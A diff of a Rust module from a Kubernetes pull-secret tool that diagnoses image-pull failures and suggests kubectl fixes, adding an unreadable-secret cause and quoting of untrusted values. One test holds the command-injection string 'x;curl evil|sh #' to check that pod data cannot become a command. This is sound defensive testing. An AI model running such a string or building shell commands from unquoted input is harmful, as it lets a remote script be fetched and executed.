@@ -1,12 +1,14 @@
 //! The likely cause, and the command that fixes it. Pure.
 
-use globalps_core::api::{GlobalPullSecret, Phase};
+use globalps_core::api::Phase;
 use globalps_registry::{Pull, RegistryError};
 use serde::Serialize;
 
+use super::adding::Adding;
 use super::commands::{Login, add, go_back, widen};
 use super::facts::{Lag, PodSeen};
 use super::failing::{Failing, Said};
+use crate::error::quoted;
 use crate::registry::{Purpose, failure, missing_flag};
 use crate::secret::tried::{Origin, Tried};
 
@@ -18,6 +20,8 @@ pub(crate) enum Code {
     ImageNotFound,
     RegistryUnreachable,
     NodeNotSynced,
+    /// A pull secret of the pod is not one that a kubelet can read.
+    SecretUnreadable,
     OutsideScope,
     RateLimited,
     InvalidImageName,
@@ -70,8 +74,10 @@ pub(crate) struct Evidence<'a> {
     pub anonymous: Option<&'a Result<Pull, RegistryError>>,
     /// A source that has a credential for other pods only, and who it is for.
     pub excluding: Option<(&'a str, &'a str)>,
+    /// A Secret of the pod that a kubelet can't read.
+    pub unreadable: Option<(&'a str, &'a Origin)>,
     pub lag: Option<&'a Lag>,
-    pub gps: Option<&'a GlobalPullSecret>,
+    pub adding: &'a Adding,
     /// Namespace of the pull secrets.
     pub secrets: &'a str,
     /// The newest revision whose additional pull secret has another credential for the image.
@@ -94,6 +100,9 @@ impl Evidence<'_> {
         match self.failing.said() {
             Said::InvalidName => return self.invalid_name(),
             Said::NeverPulled => return self.never_pulled(),
+            _ if let Some((source, origin)) = self.unreadable => {
+                return self.secret_unreadable(source, origin);
+            }
             Said::RateLimited => return self.rate_limited(),
             Said::Unreachable => return self.unreachable(&self.failing.message),
             _ if answers.any(is_limited) => return self.rate_limited(),
@@ -143,7 +152,7 @@ impl Evidence<'_> {
         }
     }
 
-    fn of(&self, code: Code, message: String, command: String, hint: &str) -> Cause {
+    pub(super) fn of(&self, code: Code, message: String, command: String, hint: &str) -> Cause {
         Cause {
             code,
             registry: self.registry.to_owned(),
@@ -153,23 +162,26 @@ impl Evidence<'_> {
         }
     }
 
-    fn add(&self, login: &Login<'_>) -> String {
+    /// The command, with a hint; no command where it would not help, but why.
+    fn add(&self, login: &Login<'_>, hint: &str) -> (String, String) {
+        if let Some(why) = self.adding.without_effect_for(login.key, login.source) {
+            return (String::new(), why);
+        }
         let answers = self.tries.iter().filter_map(|tried| tried.answer.as_ref());
         let mut errors = answers
             .chain(self.anonymous)
             .filter_map(|it| it.as_ref().err());
         let flag = errors.find_map(missing_flag);
-        add(login, flag.unwrap_or(self.asked_with))
+        let command = add(login, flag.unwrap_or(self.asked_with));
+        (command, hint.to_owned())
     }
 
     fn no_credentials(&self) -> Cause {
         let registry = self.registry;
-        self.of(
-            Code::NoCredentials,
-            format!("the node has no credentials for `{registry}`, which needs a login"),
-            self.add(&Login::new(registry)),
-            "it asks for the password; every pod of the cluster can then pull with it. For some namespaces only: `--source` and `--only-namespaces`",
-        )
+        let hint = "it asks for the password; every pod of the cluster can then pull with it. For some namespaces only: `--source` and `--only-namespaces`";
+        let (command, hint) = self.add(&Login::new(registry), hint);
+        let message = format!("the node has no credentials for `{registry}`, which needs a login");
+        self.of(Code::NoCredentials, message, command, &hint)
     }
 
     fn refused(&self, tested: &Tested<'_>) -> Cause {
@@ -199,52 +211,25 @@ impl Evidence<'_> {
             user: username,
             ..Login::new(key)
         };
+        let asks = "it asks for the password and checks it first";
         let (command, hint) = match origin {
             Origin::Globalps => {
-                let hint = "it asks for the password and checks it first";
                 let hint = match self.earlier {
-                    Some(revision) => format!("{hint}; {}", go_back(revision)),
-                    None => hint.to_owned(),
+                    Some(revision) => format!("{asks}; {}", go_back(revision)),
+                    None => asks.to_owned(),
                 };
-                let command = self.add(&login);
-                return self.of(Code::CredentialsRefused, message, command, &hint);
+                self.add(&login, &hint)
             }
-            Origin::Scoped(source) => (
-                self.add(&Login { source, ..login }),
-                "it asks for the password and checks it first; the scope stays",
-            ),
-            Origin::Catalog(namespace, name) => (
-                format!("kubectl -n {namespace} edit secret {name}"),
-                "the pod's Secret is a copy that globalps keeps: put the new credentials into `.dockerconfigjson` of the catalog's pull secret, and globalps copies them",
-            ),
-            Origin::Pod => {
-                let name = source.strip_prefix("Secret ").unwrap_or(source);
-                let name = name.split([',', ' ']).next().unwrap_or(name);
-                let (namespace, name) = name.split_once('/').unwrap_or((&self.pod.namespace, name));
-                (
-                    format!("kubectl -n {namespace} edit secret {name}"),
-                    "the Secret belongs to the namespace; put the new credentials into `.dockerconfigjson`",
-                )
+            Origin::Scoped(source) => {
+                let hint = format!("{asks}; the scope stays");
+                self.add(&Login { source, ..login }, &hint)
+            }
+            Origin::Catalog(..) | Origin::Pod => {
+                let (command, hint) = self.edit(source, origin);
+                (command, hint.to_owned())
             }
         };
-        self.of(Code::CredentialsRefused, message, command, hint)
-    }
-
-    fn not_found(&self) -> Cause {
-        let PodSeen {
-            namespace,
-            workload,
-            ..
-        } = self.pod;
-        let Failing {
-            container, image, ..
-        } = self.failing;
-        self.of(
-            Code::ImageNotFound,
-            format!("`{}` has no image `{image}` (404)", self.registry),
-            format!("kubectl -n {namespace} set image {workload} {container}={}:TAG", self.repository),
-            "push the image, or name an existing one. Some registries also answer 404 to users who may not see the repository",
-        )
+        self.of(Code::CredentialsRefused, message, command, &hint)
     }
 
     fn unreachable(&self, why: &str) -> Cause {
@@ -263,60 +248,27 @@ impl Evidence<'_> {
     fn rate_limited(&self) -> Cause {
         let registry = self.registry;
         let (command, hint) = if self.tries.is_empty() {
-            (
-                self.add(&Login::new(registry)),
-                "a user with a login has a higher limit; the kubelet also tries again by itself",
-            )
+            let hint =
+                "a user with a login has a higher limit; the kubelet also tries again by itself";
+            self.add(&Login::new(registry), hint)
         } else {
-            (
-                String::new(),
-                "wait: the kubelet tries again by itself; use an account with a higher limit, or a mirror",
-            )
+            let hint = "wait: the kubelet tries again by itself; use an account with a higher limit, or a mirror";
+            (String::new(), hint.to_owned())
         };
         let message = format!("`{registry}` limits the rate of pulls (429)");
-        self.of(Code::RateLimited, message, command, hint)
-    }
-
-    fn invalid_name(&self) -> Cause {
-        let PodSeen {
-            namespace,
-            workload,
-            ..
-        } = self.pod;
-        let Failing {
-            container, image, ..
-        } = self.failing;
-        self.of(
-            Code::InvalidImageName,
-            format!("`{image}` is not an image name"),
-            format!("kubectl -n {namespace} set image {workload} {container}=IMAGE"),
-            "",
-        )
-    }
-
-    fn never_pulled(&self) -> Cause {
-        let image = &self.failing.image;
-        self.of(
-            Code::ImageNeverPulled,
-            format!("`imagePullPolicy` is `Never`, and the node does not have `{image}`"),
-            format!(
-                "kubectl -n {} edit {}",
-                self.pod.namespace, self.pod.workload
-            ),
-            "set `imagePullPolicy: IfNotPresent`",
-        )
+        self.of(Code::RateLimited, message, command, &hint)
     }
 
     fn not_synced(&self, lag: &Lag) -> Cause {
         let node = &self.pod.node;
         let (command, hint) = match lag.phase {
             Phase::Failed | Phase::RolledBack => (
-                format!("kubectl globalps retry {node} --wait"),
+                format!("kubectl globalps retry {} --wait", quoted(node)),
                 "`kubectl globalps status` has the reason: fix it first",
             ),
             _ if lag.is_paused => ("kubectl globalps resume --wait".to_owned(), ""),
             _ => (
-                format!("kubectl globalps status --node {node} --wait"),
+                format!("kubectl globalps status --node {} --wait", quoted(node)),
                 "the rollout reaches it; `kubectl globalps check` shows what is in its way",
             ),
         };
@@ -337,39 +289,16 @@ impl Evidence<'_> {
             "source `{source}` has a credential for `{}`, but only for {who}, not for service account `{service_account}` of `{namespace}`",
             self.registry
         );
-        let command = self
-            .gps
-            .and_then(|gps| widen(gps, source, self.pod, self.secrets));
-        let command = command.unwrap_or_default();
-        let hint = "adds the pod to the scope, if it may use these credentials";
-        self.of(Code::OutsideScope, message, command, hint)
-    }
-
-    fn waits(&self) -> Cause {
-        let PodSeen {
-            namespace, name, ..
-        } = self.pod;
-        self.of(
-            Code::WaitsForRetry,
-            format!("`{}` gives out the image by now, asked from this machine", self.registry),
-            format!("kubectl -n {namespace} delete pod {name}"),
-            "only if a controller recreates it; the kubelet also tries again by itself, after 5 min at the latest. If it keeps failing, the node has other credentials or another way to the registry",
-        )
-    }
-
-    fn unknown(&self) -> Cause {
-        let PodSeen {
-            namespace, name, ..
-        } = self.pod;
-        self.of(
-            Code::Unknown,
-            format!(
-                "the kubelet says {}: {}",
-                self.failing.reason, self.failing.message
+        let gps = self.adding.gps.as_ref();
+        let (command, hint) = match self.adding.without_effect() {
+            Some(why) => (String::new(), why),
+            None => (
+                gps.and_then(|gps| widen(gps, source, self.pod, self.secrets))
+                    .unwrap_or_default(),
+                "adds the pod to the scope, if it may use these credentials".to_owned(),
             ),
-            format!("kubectl -n {namespace} describe pod {name}"),
-            "the message is not one that globalps knows",
-        )
+        };
+        self.of(Code::OutsideScope, message, command, &hint)
     }
 }
 
@@ -380,7 +309,10 @@ fn is_refusal(answer: &Result<Pull, RegistryError>) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::secret::changes::InForce;
     use crate::secret::pull::{Answer, Asked, Keyring};
+    use globalps_core::api::{GlobalPullSecret, GlobalPullSecretSpec};
+    use globalps_core::dockerconfig::{Precedence, parse};
     use globalps_registry::{Peer, Why};
     use serde_json::json;
 
@@ -421,7 +353,9 @@ mod tests {
 
     fn seen() -> PodSeen {
         let pod = json!({
-            "metadata": {"namespace": "a", "name": "p"},
+            "metadata": {"namespace": "a", "name": "p", "ownerReferences": [{
+                "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "o", "uid": "u", "controller": true,
+            }]},
             "spec": {"containers": [], "nodeName": "node-1", "serviceAccountName": "ci"},
         });
         PodSeen::of(&serde_json::from_value(pod).expect("a pod"))
@@ -433,6 +367,15 @@ mod tests {
             image: "quay.io/org/app:1".to_owned(),
             reason: "ErrImagePull".to_owned(),
             message: message.to_owned(),
+        }
+    }
+
+    /// An installation where `add` comes into force.
+    fn works() -> Adding {
+        let gps = GlobalPullSecret::new("g", GlobalPullSecretSpec::default());
+        Adding {
+            gps: Some(gps),
+            ..Adding::default()
         }
     }
 
@@ -579,8 +522,9 @@ mod tests {
                 tries: &tries,
                 anonymous: found.as_ref().filter(|_| tries.is_empty()),
                 excluding: None,
+                unreadable: None,
                 lag: lag.as_ref(),
-                gps: None,
+                adding: &works(),
                 secrets: "kube-system",
                 earlier: None,
                 asked_with: "",
@@ -622,8 +566,12 @@ mod tests {
                 tries: &[],
                 anonymous: None,
                 excluding: Some(("team", "pods of b")),
+                unreadable: None,
                 lag: None,
-                gps: Some(&gps),
+                adding: &Adding {
+                    gps: Some(gps),
+                    ..Adding::default()
+                },
                 secrets: "kube-system",
                 earlier: None,
                 asked_with: "",
@@ -680,8 +628,9 @@ mod tests {
                 tries: &tested,
                 anonymous: None,
                 excluding: None,
+                unreadable: None,
                 lag: None,
-                gps: None,
+                adding: &works(),
                 secrets: "kube-system",
                 earlier: None,
                 asked_with: "",
@@ -720,8 +669,9 @@ mod tests {
                 tries: &[],
                 anonymous: Some(&found),
                 excluding: None,
+                unreadable: None,
                 lag: None,
-                gps: None,
+                adding: &works(),
                 secrets: "kube-system",
                 earlier: None,
                 asked_with,
@@ -730,6 +680,130 @@ mod tests {
                 evidence.cause().command,
                 format!("kubectl globalps add quay.io -u USER{flag} --wait --retry-pods")
             );
+        }
+    }
+
+    fn evidence<'a>(
+        pod: &'a PodSeen,
+        failing: &'a Failing,
+        tries: &'a [Tested<'a>],
+        adding: &'a Adding,
+    ) -> Evidence<'a> {
+        Evidence {
+            pod,
+            failing,
+            registry: "quay.io",
+            repository: "quay.io/org/app",
+            tries,
+            anonymous: None,
+            excluding: None,
+            unreadable: None,
+            lag: None,
+            adding,
+            secrets: "kube-system",
+            earlier: None,
+            asked_with: "",
+        }
+    }
+
+    #[test]
+    fn nothing_of_the_pod_is_a_command_of_its_own() {
+        let evil = "x;curl evil|sh #";
+        let failing = Failing {
+            container: "c".to_owned(),
+            image: evil.to_owned(),
+            ..failing("manifest unknown")
+        };
+        let adding = works();
+        let pod = seen();
+        let mut found = evidence(&pod, &failing, &[], &adding);
+        found.repository = evil;
+        found.registry = evil;
+        for cause in [found.not_found(), found.cause(), found.no_credentials()] {
+            let outside = cause.command.split('\'').step_by(2).collect::<String>();
+            assert!(!outside.contains("evil"), "{}", cause.command);
+        }
+    }
+
+    #[test]
+    fn only_a_pod_that_is_recreated_is_deleted() {
+        let (failing, adding, answer) = (failing("?"), works(), answer(false));
+        let tested = answer.tries().iter().map(|tried| Tested {
+            tried,
+            answer: Some(Ok(Pull::Available)),
+        });
+        let tries: Vec<Tested<'_>> = tested.collect();
+        for (kept, expected) in [
+            (None, "kubectl -n a delete pod p"),
+            (Some("no controller would recreate them"), ""),
+        ] {
+            let pod = PodSeen { kept, ..seen() };
+            let cause = evidence(&pod, &failing, &tries, &adding).cause();
+            assert_eq!(cause.code, Code::WaitsForRetry);
+            assert_eq!(cause.command, expected);
+        }
+    }
+
+    #[test]
+    fn a_secret_of_the_pod_that_cannot_be_read_is_the_cause() {
+        let ring = |name: &str, auth: &str, origin| Keyring {
+            name: name.to_owned(),
+            bytes: format!(r#"{{"auths":{{"quay.io":{{"auth":"{auth}"}}}}}}"#).into_bytes(),
+            origin,
+        };
+        let asked = Asked {
+            image: "quay.io/org/app:1".to_owned(),
+            of_pod: vec![
+                ring("Secret a/good", "dTpw", Origin::Pod),
+                ring("Secret a/bad", "x", Origin::Pod),
+            ],
+            of_node: Some(ring("the nodes' file", "dTpw", Origin::Globalps)),
+            ..Asked::default()
+        };
+        let answer = Answer::of(asked).expect("an image's name");
+        assert!(answer.tries().is_empty(), "the kubelet tries nothing");
+        let (pod, failing, adding) = (seen(), failing("401 Unauthorized"), works());
+        let mut evidence = evidence(&pod, &failing, &[], &adding);
+        evidence.unreadable = answer.unreadable();
+        let cause = evidence.cause();
+        assert_eq!(
+            (cause.code, cause.command.as_str()),
+            (Code::SecretUnreadable, "kubectl -n a edit secret bad")
+        );
+        assert!(cause.message.starts_with("Secret a/bad "), "{cause:?}");
+    }
+
+    #[test]
+    fn add_is_not_printed_where_it_changes_nothing() {
+        let original = parse(br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#).expect("a file");
+        let shadowed = Adding {
+            in_force: InForce {
+                original,
+                precedence: Precedence::Original,
+                ..InForce::default()
+            },
+            ..works()
+        };
+        let stopped = Adding {
+            stopped: Some("the controller is not running: it has 0 replicas".to_owned()),
+            ..works()
+        };
+        let (pod, failing, answer) = (seen(), failing("401 Unauthorized"), answer(false));
+        let tested = answer.tries().iter().map(|tried| Tested {
+            tried,
+            answer: Some(refused()),
+        });
+        let tries: Vec<Tested<'_>> = tested.collect();
+        for (adding, expected) in [
+            (shadowed, "`spec.precedence`"),
+            (stopped, "0 replicas"),
+            (Adding::default(), "not installed"),
+        ] {
+            for tries in [&tries[..], &[]] {
+                let cause = evidence(&pod, &failing, tries, &adding).cause();
+                assert_eq!(cause.command, "", "{cause:?}");
+                assert!(cause.hint.contains(expected), "{cause:?}");
+            }
         }
     }
 }
